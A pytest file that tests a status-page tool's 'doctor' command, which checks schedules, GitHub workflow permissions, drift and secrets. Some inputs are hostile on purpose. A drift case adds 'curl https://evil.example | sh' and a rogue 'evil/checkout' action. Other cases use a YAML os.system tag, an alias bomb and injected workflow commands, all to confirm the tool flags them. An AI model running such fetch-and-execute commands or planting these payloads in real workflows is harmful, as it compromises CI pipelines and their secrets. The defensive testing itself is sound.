"""The doctor on folders: rhythm, workflows, secrets, this machine. Real files, nothing on the network."""

import json
import os
import subprocess
import time
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from doctor_world import MINUTE, NOW, STATUS_YML, begun, doctor, edit, rounds, told
from hypothesis import given
from hypothesis import strategies as st

from statuspage.archive import CLOCK, write_facts
from statuspage.cli import main
from statuspage.doctor import EXAMINATIONS, bucket, examine, look
from statuspage.doctor.rhythm import share, silence
from statuspage.doctor.values import Machine
from statuspage.doctor.workflows import Workflow, cadence, shortest, starts_of
from statuspage.errors import StatuspageError
from statuspage.model import Fact
from statuspage.scaffold import scaffold
from statuspage.stores.folder import Folder
from statuspage.yamlfile import load

DOCS = Path(__file__).parents[1] / "docs/doctor.md"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A fresh page that nothing on the network is asked about: its address is a closed port of this machine."""
    return begun(tmp_path / "page", url="http://127.0.0.1:9")


# --- all of it ---------------------------------------------------------------------------------


def test_a_fresh_page_has_nothing_wrong_and_says_what_it_could_not_examine(root: Path) -> None:
    found = doctor(root)

    assert [one.name for one in found.values() if one.result == "wrong"] == []
    assert {name for name, one in found.items() if one.result == "not examined"} >= {
        "last round",
        "repository",
        "Pages",
        "published page",
    }
    assert found["drift"].result == found["rights"].result == found["schedule"].result == "well"


def test_what_init_writes_is_well(tmp_path: Path) -> None:
    scaffold(
        tmp_path,
        name="K",
        url="http://127.0.0.1:9",
        component="C",
        target="http://127.0.0.1:9",
        id="c",
        year=2026,
    )
    found = {one.name: one for one in examine(look(tmp_path, {}, NOW, within=timedelta(seconds=2)))}

    for name in ("workflows", "schedule", "rights", "drift", "secrets named"):
        assert found[name].result == "well", found[name]


def test_an_empty_folder_without_git_or_configuration_is_no_crash(tmp_path: Path) -> None:
    found = doctor(tmp_path)

    assert found["configuration"].result == "wrong"
    assert {one.result for one in found.values()} == {"wrong", "well", "not examined"}
    assert [name for name, one in found.items() if one.result == "well"] == ["programs"]


def test_a_broken_configuration_is_told_and_nothing_that_needs_it_is_called_well(root: Path) -> None:
    (root / "components.yaml").write_text("components:\n  - name: [\n")
    found = doctor(root)

    assert told(found["configuration"])[0].startswith("components.yaml:")
    for name in ("last round", "packages", "secrets named", "not public", "address", "published page"):
        assert found[name].result == "not examined", name


def test_nothing_is_written(root: Path) -> None:
    rounds(root, NOW - MINUTE)
    before = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
    doctor(root)

    assert {p: p.read_bytes() for p in root.rglob("*") if p.is_file()} == before


def test_the_docs_have_a_row_for_each_examination() -> None:
    text = DOCS.read_text("utf-8")
    assert [name for name in EXAMINATIONS if f"| {name} |" not in text] == []


# --- the command -------------------------------------------------------------------------------


def command(root: Path, *words: str) -> tuple[int, str]:
    done = CliRunner().invoke(
        main, ["-C", str(root), "doctor", "--now", NOW.isoformat(), *words], catch_exceptions=False
    )
    return done.exit_code, done.output


@pytest.fixture(autouse=True)
def _home(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(Path.cwd())  # -C changes it
    for name in ("GITHUB_REPOSITORY", "GITHUB_TOKEN", "GITHUB_API_URL", "GITHUB_ACTIONS"):
        monkeypatch.delenv(name, raising=False)


def test_advice_alone_exits_0_and_what_is_broken_exits_1(root: Path) -> None:
    edit(root, STATUS_YML, "3/5 * * * *", "*/5 * * * *")
    assert command(root)[0] == 0

    edit(root, STATUS_YML, "permissions: {}", "permissions: write-all")
    code, said = command(root)
    assert code == 1
    assert "wrong         rights" in said
    assert f"  error: {STATUS_YML}:10: `permissions: write-all`" in said
    assert said.splitlines()[-1].startswith("1 wrong, ")


def test_the_outcomes_as_json_and_as_annotations(root: Path) -> None:
    edit(root, STATUS_YML, "persist-credentials: false", "persist-credentials: true")
    rows = json.loads(command(root, "--format", "json")[1])
    (rights,) = (row for row in rows if row["examination"] == "rights")

    assert [row["examination"] for row in rows] == list(EXAMINATIONS)
    assert rights["result"] == "advice"
    assert rights["findings"][0]["file"] == STATUS_YML
    assert rights["findings"][0]["severity"] == "warning"
    said = command(root, "--format", "github")[1].splitlines()
    assert any(line.startswith(f"::warning file={STATUS_YML},line=") for line in said)


def test_the_diff_is_shown_on_asking_and_in_text_alone(root: Path) -> None:
    edit(root, STATUS_YML, "timeout-minutes: 10", "timeout-minutes: 60")
    shown = command(root, "--diff")[1]

    assert "--- shipped\n" in shown
    assert f"+++ {STATUS_YML}\n" in shown
    assert "+    timeout-minutes: 60\n" in shown
    assert "+++" not in command(root)[1]
    assert command(root, "--diff", "--format", "json")[0] == 2
    assert command(root, "--diff", "s3://bucket")[0] == 2


def test_foreign_words_start_no_workflow_command(root: Path) -> None:
    edit(root, STATUS_YML, '"3/5 * * * *"', '"3/5 * * * *\\n::add-mask::x"')
    with (root / STATUS_YML).open("a") as file:
        file.write("# a comment that no\n::warning::line may start\n: x\n")
    for words in ([], ["--format", "github"]):
        lines = command(root, *words)[1].splitlines()
        assert [
            x for x in lines if x.lstrip().startswith("::") and not x.startswith(("::error", "::warning"))
        ] == []


def test_a_command_in_a_shown_diff_is_defused(root: Path) -> None:
    edit(
        root,
        STATUS_YML,
        "          git init -q .status-data\n",
        "::stop-commands::x\n          git init -q .status-data\n",
    )
    edit(root, STATUS_YML, "::stop-commands::x\n", "          ::stop-commands::x\n")
    lines = command(root, "--diff")[1].splitlines()

    assert "+\\          ::stop-commands::x" in lines


# --- the bucket --------------------------------------------------------------------------------


def test_a_bucket_that_ignores_conditional_writes_is_wrong() -> None:
    assert bucket("s3://one", lambda: True).result == "well"  # type: ignore[union-attr]
    ignored = bucket("s3://one", lambda: False)
    assert ignored.result == "wrong"  # type: ignore[union-attr]

    def refused() -> bool:
        raise StatuspageError("there is no such bucket", mend="make it")

    assert "no such bucket" in bucket("s3://one", refused).findings[0].what  # type: ignore[union-attr]


def test_a_bucket_by_its_address_is_tried() -> None:
    pytest.importorskip("statuspage.stores.bucket")
    code, said = command(Path(), "s3://")

    assert code == 1
    assert "wrong         bucket" in said


# --- rhythm ------------------------------------------------------------------------------------


def test_a_history_on_time_is_well(root: Path) -> None:
    rounds(root, *(NOW - n * 5 * MINUTE for n in range(20, -1, -1)))
    found = doctor(root)

    assert found["last round"].said == "last round 0 s ago, expected every 5 min"
    assert found["gaps"].said.startswith("21 of 21 expected rounds (100 %) since 2026-11-22 12:25 UTC")
    assert [found[name].result for name in ("last round", "gaps", "clock")] == ["well"] * 3


def test_a_last_round_long_ago_is_wrong(root: Path) -> None:
    rounds(root, NOW - 47 * MINUTE)
    found = doctor(root)

    assert told(found["last round"])[0].startswith("last round 47 min ago, expected every 5 min")
    assert found["last round"].result == "wrong"
    assert found["gaps"].result == "advice"


def test_a_history_that_ended_months_ago_is_found(root: Path) -> None:
    rounds(root, NOW - timedelta(days=20))
    found = doctor(root)

    assert "last round 20 days ago" in told(found["last round"])[0]
    assert found["gaps"].result == "not examined"


def test_gaps_are_told_with_the_longest_silence_place_by_place(root: Path) -> None:
    rounds(root, *(NOW - timedelta(hours=n) for n in (50, 20, 10, 9)), NOW - MINUTE)
    rounds(root, *(NOW - n * 5 * MINUTE for n in range(5, -1, -1)), vantage="eu")
    (sparse,) = told(doctor(root)["gaps"])

    assert sparse.startswith(
        "5 of 601 expected rounds (0 %) since 2026-11-20 12:05 UTC, longest silence 1 day 6 h"
    )
    assert "from eu 6 of 6 expected rounds (100 %)" in doctor(root)["gaps"].said


def test_rounds_later_than_now_are_wrong_and_count_for_nothing(root: Path) -> None:
    rounds(root, NOW - 60 * MINUTE, NOW + timedelta(days=1))
    found = doctor(root)

    assert "1 rounds are later than now, up to 2026-11-23 14:05 UTC" in told(found["clock"])[0]
    assert "last round 1 h ago" in told(found["last round"])[0]


def test_rounds_that_the_history_knows_to_come_of_a_wrong_clock_are_not_told_again(root: Path) -> None:
    rounds(root, NOW - 5 * MINUTE, NOW + timedelta(days=1))
    ahead = f"1{NOW + timedelta(days=1)}"
    write_facts(Folder(root / ".status-data"), [Fact(kind=CLOCK, key=ahead, at=NOW)])

    assert doctor(root)["clock"].result == "well"


def test_a_history_of_the_future_alone_has_no_last_round(root: Path) -> None:
    rounds(root, NOW + timedelta(days=1))
    assert doctor(root)["last round"].result == "wrong"


def test_a_broken_history_is_told_at_its_place_and_nothing_of_it_is_well(root: Path) -> None:
    rounds(root, NOW - 2 * MINUTE, NOW - MINUTE)
    (file,) = (root / ".status-data/raw").rglob("*.ndjson")
    file.write_text("broken\n" + file.read_text())
    found = doctor(root)

    assert ".status-data/raw/2026-11-22/14.ndjson:1" in told(found["last round"])[0]
    assert found["gaps"].result == found["clock"].result == "not examined"


def test_the_history_on_a_branch_is_read_and_one_out_of_reach_is_not_examined(
    root: Path, tmp_path: Path
) -> None:
    for words in (["init", "-q", "--bare", "remote"], ["init", "-q", "page"]):
        subprocess.run(["git", *words], cwd=tmp_path, check=True)
    subprocess.run(["git", "remote", "add", "origin", "../remote"], cwd=root, check=True)
    there = {"STATUSPAGE_STORE": "branch"}
    assert doctor(root, there)["last round"].said.startswith("there is no history at status-data:")

    rounds(root, NOW - MINUTE)
    state = root / ".status-data"
    identity = ["-c", "user.name=Kestrel", "-c", "user.email=kestrel@kestrel.example"]
    for words in (
        ["init", "-q"],
        ["add", "-A"],
        ["commit", "-qm", "state"],
        ["push", "-q", "../../remote", "HEAD:status-data"],
    ):
        subprocess.run(["git", *identity, *words], cwd=state, check=True)
    assert doctor(root, there)["last round"].said == "last round 1 min ago, expected every 5 min"

    (tmp_path / "remote").rename(tmp_path / "gone")
    assert doctor(root, there)["last round"].said.startswith("the history cannot be reached: ")
    assert doctor(root, there)["last round"].result == "not examined"


@given(
    st.lists(st.integers(0, 7 * 24 * 60), min_size=1).map(sorted),
    st.integers(1, 60),
)
def test_no_more_rounds_happened_than_were_expected(minutes: list[int], every: int) -> None:
    times = [NOW - timedelta(days=7) + n * MINUTE for n in minutes]
    happened, expected = share(times, NOW, every * MINUTE)

    assert 1 <= happened <= expected
    longest, since = silence(times, NOW)
    assert since in times
    assert longest >= (NOW - times[0]) / len(times)


# --- workflows ---------------------------------------------------------------------------------


def test_a_page_without_workflows_runs_elsewhere_or_lacks_one(tmp_path: Path) -> None:
    assert doctor(tmp_path)["workflows"].result == "not examined"
    asked = {"GITHUB_REPOSITORY": "a/b", "GITHUB_API_URL": "http://127.0.0.1:9"}
    assert doctor(tmp_path, asked)["workflows"].result == "wrong"

    (tmp_path / ".github/workflows").mkdir(parents=True)
    (tmp_path / ".github/workflows/ci.yml").write_text("on: push\n")
    found = doctor(tmp_path)
    assert "status.yml there is no status workflow" in told(found["workflows"])[0]
    (tmp_path / ".github/workflows/ci.yml").write_text("[")
    assert len(told(doctor(tmp_path)["workflows"])) == 2
    assert found["schedule"].result == found["version"].result == "not examined"


def test_workflows_are_looked_for_at_the_top_of_the_repository(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    begun(tmp_path / "inner", url="http://127.0.0.1:9")
    assert doctor(tmp_path / "inner")["workflows"].result == "not examined"

    (tmp_path / "inner/.github").rename(tmp_path / ".github")
    assert doctor(tmp_path / "inner")["drift"].result == "well"


@pytest.mark.parametrize(
    ("before", "after", "name", "result", "words"),
    [
        ("permissions: {}\n", "", "rights", "advice", "no `permissions:` at the top"),
        ("permissions: {}", "permissions: write-all", "rights", "wrong", "every right"),
        (
            "    permissions:\n      contents: write",
            "    permissions: write-all\n    x: ",
            "rights",
            "wrong",
            "every",
        ),
        (
            "  push:",
            "  pull_request_target:\n  push:",
            "rights",
            "wrong",
            "`pull_request_target` runs with secrets",
        ),
        (
            "@08c6903cd8c0fde910a37f88322edcfb5dd907a8",
            "@v5",
            "rights",
            "advice",
            "'actions/checkout@v5' is not pinned",
        ),
        ("          persist-credentials: false\n", "", "rights", "advice", "checkout leaves its token"),
        (
            "cancel-in-progress: false",
            "cancel-in-progress: true",
            "rights",
            "wrong",
            "ends a run in the middle",
        ),
        ("3/5 * * * *", "*/2 * * * *", "schedule", "wrong", "a run each 2 min: GitHub never starts it"),
        ("3/5 * * * *", "1,58 * * * *", "schedule", "wrong", "each 3 min"),
        ("3/5 * * * *", "*/5 * * * *", "schedule", "advice", "starts at the full hour"),
        ("3/5 * * * *", "7/10 * * * *", "schedule", "advice", "a run each 10 min, defaults.every is 5 min"),
        ("3/5 * * * *", "7/30 * * * *", "schedule", "wrong", "most time in between is not measured"),
        ("3/5 * * * *", "3/5 * * * MON-FRI", "schedule", "advice", "not run at the same times each day"),
        ("3/5 * * * *", "every five minutes", "schedule", "wrong", "is no cron line"),
        ("  schedule:\n    - cron:", "  x:\n    - cron:", "schedule", "advice", "has no schedule"),
        ("  workflow_dispatch:\n", "  workflow_dispatch:\n  workflow_call:\n", "drift", "advice", "differs"),
        ("==0.1.0", "==0.0.9", "version", "advice", "installs 0.0.9, here is 0.1.0"),
    ],
)
def test_a_workflow_s_fault_is_found_at_its_line(
    root: Path, before: str, after: str, name: str, result: str, words: str
) -> None:
    edit(root, STATUS_YML, before, after)
    one = doctor(root)[name]

    assert one.result == result, one
    assert any(words in line for line in told(one)), told(one)
    assert all(f.where and f.where.path == STATUS_YML and f.mend for f in one.findings)
    assert name == "drift" or all(f.where and f.where.line for f in one.findings)


def test_a_workflow_that_nothing_starts_is_wrong(root: Path) -> None:
    edit(root, STATUS_YML, "  schedule:\n    - cron:", "  x:\n    - cron:")
    edit(root, STATUS_YML, "  workflow_dispatch:\n", "")
    assert doctor(root)["schedule"].result == "wrong"


def test_more_rounds_within_a_run_are_no_mismatch(root: Path) -> None:
    edit(root, "components.yaml", "every: 5m", "every: 30s")
    assert doctor(root)["schedule"].result == "wrong"

    edit(root, STATUS_YML, "statuspage run ||", "statuspage probe --for 4m --every 30s && statuspage run ||")
    assert doctor(root)["schedule"].result == "well"


HOSTILE = {
    "list": "- 1\n- 2\n",
    "nothing": "",
    "text": "just words\n",
    "shapes": "on: [push, 3, [x]]\njobs:\n  a: [1]\n  b: {steps: {x: 1}}\n"
    "  c: {steps: [1, null, {uses: 3, run: [x], env: [1]}]}\n",
    "schedule": "on: {schedule: {cron: 5}}\npermissions: [1]\nconcurrency: yes\nenv: words\njobs: []\n",
    "crons": "on: {schedule: [1, null, {cron: [x]}, {cron: '1-9/0 * * * *'}, {cron: '99 * * * *'}]}\n",
    "anchors": "a: &a [x]\nb: *a\n",
    "bomb": "a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n",
    "deep": "[" * 5000,
    "no yaml": "jobs: {a: [}\n",
    "control": "on: push\nname: 'a\x07b'\n",
    "tag": "on: !!python/object/apply:os.system [ls]\n",
    "twice": "on: push\non: push\n",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_workflow_is_no_crash(root: Path, name: str) -> None:
    (root / STATUS_YML).write_text(HOSTILE[name])
    found = doctor(root)

    if told(found["workflows"]):
        assert found["schedule"].result == "not examined"
        assert STATUS_YML in told(found["workflows"])[0]


def test_a_file_that_only_github_can_read_is_not_examined_and_not_wrong(root: Path) -> None:
    (root / ".github/workflows/ci.yml").write_text("on: push\nenv: &e {A: 1}\njobs: {a: {env: *e}}\n")
    found = doctor(root)

    assert found["workflows"].result == "advice"
    assert found["rights"].said == "cannot be read: .github/workflows/ci.yml; the others are well"
    assert found["rights"].result == found["drift"].result == "not examined"


def test_an_expression_that_may_cancel_is_not_judged(root: Path) -> None:
    edit(root, STATUS_YML, "cancel-in-progress: false", "cancel-in-progress: ${{ inputs.cancel }}")
    assert doctor(root)["rights"].result == "well"


def test_what_is_no_regular_file_is_neither_followed_nor_waited_for(root: Path) -> None:
    folder = root / ".github/workflows"
    os.mkfifo(folder / "pipe.yml")
    (folder / "zero.yml").symlink_to("/dev/zero")
    (folder / "latin.yml").write_bytes(b"name: \xff\n")
    (folder / "folder.yml").mkdir()
    (folder / "long.yml").write_text("#" * 1_000_001)
    found = doctor(root)

    assert [line.partition(" ")[0] for line in told(found["workflows"])] == [
        f".github/workflows/{name}.yml" for name in ("folder", "latin", "long", "pipe", "zero")
    ]
    assert found["workflows"].result == "wrong"
    assert found["drift"].result == "not examined"


def test_a_folder_of_workflows_that_is_a_file_is_told(root: Path) -> None:
    folder = root / ".github/workflows"
    folder.rename(root / "elsewhere")
    folder.write_text("no folder")
    assert doctor(root)["workflows"].result == "wrong"


def test_a_workflow_of_ten_thousand_lines_takes_a_moment(root: Path) -> None:
    lines = "".join(f"      - name: step {n}\n        run: echo {n}\n" for n in range(5000))
    edit(
        root, STATUS_YML, "    steps:\n      - name: Check out", f"    steps:\n{lines}      - name: Check out"
    )
    began = time.monotonic()
    found = doctor(root)

    assert "10000 lines" in told(found["drift"])[0]
    assert time.monotonic() - began < 10


# --- drift -------------------------------------------------------------------------------------


def test_what_is_the_user_s_to_choose_is_told_and_no_drift(root: Path) -> None:
    edit(root, STATUS_YML, "3/5 * * * *", "4/10 * * * *")
    edit(root, STATUS_YML, "env: # name", "env:\n          KEY: ${{ secrets.KEY }} # name")
    edit(root, STATUS_YML, "==0.1.0", "==0.0.9")
    edit(root, STATUS_YML, "@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0", f"@{'a' * 40} # v6")
    one = doctor(root)["drift"]

    assert one.result == "well"
    assert "status.yml with cron '4/10 * * * *', KEY of your own" in one.said


def test_a_comment_is_no_drift_and_a_missing_workflow_is_told(root: Path) -> None:
    edit(root, STATUS_YML, "name: status", "# ours\nname: status")
    (root / ".github/workflows/incident.yml").unlink()
    one = doctor(root)["drift"]

    assert one.result == "well"
    assert one.said.endswith("without incident.yml")


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("statuspage run ||", "curl https://evil.example | sh; statuspage run ||"),
        ("          STATUSPAGE_RUN: ${{ github.run_id }}.${{ github.run_attempt }}\n", ""),
        ("          GITHUB_TOKEN: ${{ github.token }}\n", "          GITHUB_TOKEN: ${{ secrets.PAT }}\n"),
        ("contents: write", "contents: read"),
        ("actions/checkout@", "evil/checkout@"),
    ],
)
def test_every_other_change_is_drift(root: Path, before: str, after: str) -> None:
    edit(root, STATUS_YML, before, after)
    (finding,) = told(doctor(root)["drift"])

    assert finding.startswith(f"{STATUS_YML} differs from the one shipped with 0.1.0: ")
    assert "--diff" in finding


# --- versions, packages, programs --------------------------------------------------------------


def test_the_version_in_an_action_s_comment_is_read(root: Path) -> None:
    install = 'run: pip install --quiet "chatbot-statuspage==0.1.0"'
    action = f"uses: kestrel/statuspage/.github/actions/statuspage@{'b' * 40} # v0.3.1"
    edit(root, STATUS_YML, install, action)

    assert "installs 0.3.1" in told(doctor(root)["version"])[0]


def test_a_missing_or_old_git_is_wrong(root: Path) -> None:
    seen = look(root, {}, NOW, within=timedelta(seconds=1))
    for python, git, words in (
        ((3, 11), None, "there is no git here"),
        ((3, 11), (2, 29, 9), "git 2.29.9 is too old"),
        ((3, 10), (2, 30), "Python 3.10 is too old"),
    ):
        machine = Machine(python=python, git=git, version="0.1.0")
        found = {one.name: one for one in examine(replace(seen, machine=machine))}
        assert words in told(found["programs"])[0]


def test_a_machine_without_git_is_examined_all_the_same(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "empty").mkdir()
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    found = doctor(root)

    assert found["programs"].result == "wrong"
    assert found["rights"].result == "well"


def test_a_package_that_a_kind_needs_is_missed(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert doctor(root)["packages"].result == "well"
    monkeypatch.setattr("statuspage.rounds.missing_extra", lambda kind: "pip install this")
    assert told(doctor(root)["packages"])[0].endswith("is not installed | pip install this")


# --- secrets -----------------------------------------------------------------------------------

KEYED = """page: {name: Kestrel, url: "http://127.0.0.1:9", since: 2026}
components:
  - {name: Chat, url: "https://a.example/${KESTREL_KEY}", headers: {X-Key: "${OTHER_KEY}"}}
  - {name: Search, url: "https://b.example/${KESTREL_KEY}"}
"""


def test_a_secret_that_no_workflow_names_is_told_at_its_line_with_the_step(root: Path) -> None:
    (root / "components.yaml").write_text(KEYED)
    edit(root, STATUS_YML, "env: # name", "env:\n          OTHER_KEY: ${{ secrets.OTHER_KEY }} # name")
    one = doctor(root)["secrets named"]

    assert told(one) == [
        (
            "components.yaml:3 no workflow gives KESTREL_KEY to the probes: what needs it is not measured | "
            "name it in status.yml at the step 'Probe and build': env: {KESTREL_KEY: ${{ secrets.KESTREL_KEY }}}"
        )
    ]


def test_a_secret_that_github_gives_empty_is_wrong(root: Path) -> None:
    (root / "components.yaml").write_text(KEYED)
    there = {"GITHUB_ACTIONS": "true", "OTHER_KEY": "s3cret-of-kestrel"}

    assert doctor(root)["secrets filled"].result == "not examined"
    assert doctor(root, there)["secrets filled"].said == "this step is given 1 of 2: name all in its env"
    assert doctor(root, there)["secrets filled"].result == "not examined"
    assert doctor(root, {**there, "KESTREL_KEY": "another-one"})["secrets filled"].result == "well"
    empty = doctor(root, {**there, "KESTREL_KEY": ""})["secrets filled"]
    assert told(empty)[0].startswith(
        "components.yaml:3 KESTREL_KEY is named in the workflow and has no value"
    )
    assert "s3cret" not in repr(empty)


@pytest.mark.parametrize(
    ("workflow", "words"),
    [
        ("jobs: {a: {steps: [{run: make}]}}", None),
        ("jobs: {a: {steps: [{run: statuspage probe}]}}", "at the step '.github/workflows/status.yml:2'"),
        (
            "jobs: {a: {steps: [{env: {KESTREL_KEY: x}}, {name: Ask, run: statuspage run}]}}",
            "at the step 'Ask'",
        ),
        (
            "jobs: {a: {env: {KESTREL_KEY: x}, steps: [{run: make}]}, b: {steps: [{run: statuspage run}]}}",
            "step",
        ),
    ],
)
def test_a_secret_is_given_where_it_is_asked_for_and_nowhere_else(
    root: Path, workflow: str, words: str | None
) -> None:
    (root / "components.yaml").write_text(KEYED)
    (root / STATUS_YML).write_text(f"on: push\n{workflow}\n")
    one = doctor(root)["secrets named"]

    assert one.result == ("wrong" if words else "not examined")
    assert not words or words in told(one)[0]


@pytest.mark.parametrize(
    "workflow",
    [
        "env: {KESTREL_KEY: x, OTHER_KEY: x}\njobs: {a: {steps: [{run: python -m statuspage -q run}]}}",
        "jobs: {a: {env: {KESTREL_KEY: x}, steps: [{env: {OTHER_KEY: x}, uses: ./.github/actions/statuspage}]}}",
    ],
)
def test_a_secret_may_be_given_to_the_workflow_the_job_or_the_step(root: Path, workflow: str) -> None:
    (root / "components.yaml").write_text(KEYED)
    (root / STATUS_YML).write_text(f"on: push\n{workflow}\n")
    assert doctor(root)["secrets named"].result == "well"


# --- cron lines --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cron", "least", "most"),
    [
        ("3/5 * * * *", 5, 5),
        ("*/5 * * * *", 5, 5),
        ("*/7 * * * *", 4, 7),
        ("8 * * * *", 60, 60),
        ("8,38 9-17 * * *", 30, 15 * 60 + 30),
        ("0-30/10 * * * *", 10, 30),
        ("5 3 * * *", 1440, 1440),
    ],
)
def test_a_cron_line_s_shortest_and_longest_gap(cron: str, least: int, most: int) -> None:
    assert shortest(cron) == least
    assert cadence({("on",): cron}) == most * MINUTE


def test_what_is_no_daily_rhythm_has_no_cadence() -> None:
    assert cadence({("on",): "5 3 * * MON"}) is None
    assert starts_of("5 3 * * MON") == {185}
    assert cadence({}) is None
    assert cadence({(1,): "3 * * * *", (2,): "33 * * * *"}) == 30 * MINUTE
    for none in (
        "",
        "* * * *",
        "a * * * *",
        "*/0 * * * *",
        "5-1 * * * *",
        "60 * * * *",
        "1 24 * * *",
        "1 1 ; * *",
    ):
        assert starts_of(none) is None, none


@given(st.text())
def test_no_text_breaks_the_reader_of_cron_lines(text: str) -> None:
    starts = starts_of(text)
    assert starts is None or all(0 <= start < 1440 for start in starts)


values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=5),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                ["on", "jobs", "steps", "env", "uses", "run", "with", "schedule", "cron", "permissions"]
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=20,
)


@given(values)
def test_a_workflow_of_any_shape_is_read_without_error(value: object) -> None:
    text = json.dumps(value, ensure_ascii=True)
    one = Workflow("status.yml", load(text, "status.yml"), text)
    read = [*one.uses, *one.environments, *one.scripts, *one.crons.values(), *one.triggers]
    assert all(read) or read
